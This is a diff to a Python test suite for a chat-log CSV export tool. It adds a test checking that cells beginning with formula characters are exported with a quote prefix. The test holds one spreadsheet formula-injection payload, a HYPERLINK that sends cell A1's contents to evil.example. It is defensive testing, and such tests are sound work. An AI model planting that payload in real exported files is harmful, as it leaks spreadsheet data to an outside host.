@@ -199,8 +199,27 @@ def test_csv_export_round_trips_commas_quotes_newlines_emoji_and_markup(handler)
 
     tricky = rows[1:]
     assert count == 1 + len(TRICKY_TEXTS)
-    assert [row["text"] for row in tricky] == list(TRICKY_TEXTS)
+    assert [row["text"].removeprefix("'") for row in tricky] == list(TRICKY_TEXTS)
     assert [json.loads(row["payload"])["text"] for row in tricky] == list(TRICKY_TEXTS)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_start_like_a_formula_are_exported_as_text(handler, store_url, tmp_path, start):
+    built = completed_conversation(handler, turns=0)
+    attack = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
+    handler.log_message(built.run_id, built.conversation_id, "Asker", {"text": attack, "task_data": {"k": attack}},
+                        worker_id="W1", assignment_id=built.assignments[0], client_msg_id="attack")
+    out = tmp_path / "run.csv"
+
+    result = run_cli("--run", built.run_id, "--format", "csv", "--out", str(out), store_url=store_url)
+
+    assert result.returncode == 0, result.stderr
+    with out.open(encoding="utf-8", newline="") as exported:
+        rows = list(csv.reader(exported))
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    [row] = [dict(zip(rows[0], r)) for r in rows[1:] if r[rows[0].index("sender_id")] == "Asker"]
+    assert row["text"] == "'" + attack
+    assert json.loads(row["payload"])["text"] == attack  # the exact message is still there
 
 
 # The command line ------------------------------------------------------------------------
